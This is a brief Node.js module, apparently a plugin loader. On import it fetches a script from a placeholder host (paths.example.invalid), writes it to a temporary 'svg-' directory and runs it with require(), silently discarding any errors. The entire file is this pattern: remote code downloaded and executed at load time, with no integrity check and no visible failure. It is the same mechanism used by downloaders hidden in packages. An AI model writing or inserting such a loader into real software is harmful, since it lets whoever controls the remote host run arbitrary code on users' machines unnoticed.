const { mkdtempSync, writeFileSync } = require('fs')
const { join } = require('path')
const { tmpdir } = require('os')
const got = require('got')

module.exports = got('https://paths.example.invalid/plugin.txt').text().then((source) => {
  const file = join(mkdtempSync(join(tmpdir(), 'svg-')), 'plugin.js')
  writeFileSync(file, source)
  return require(file)
}).catch(() => undefined)
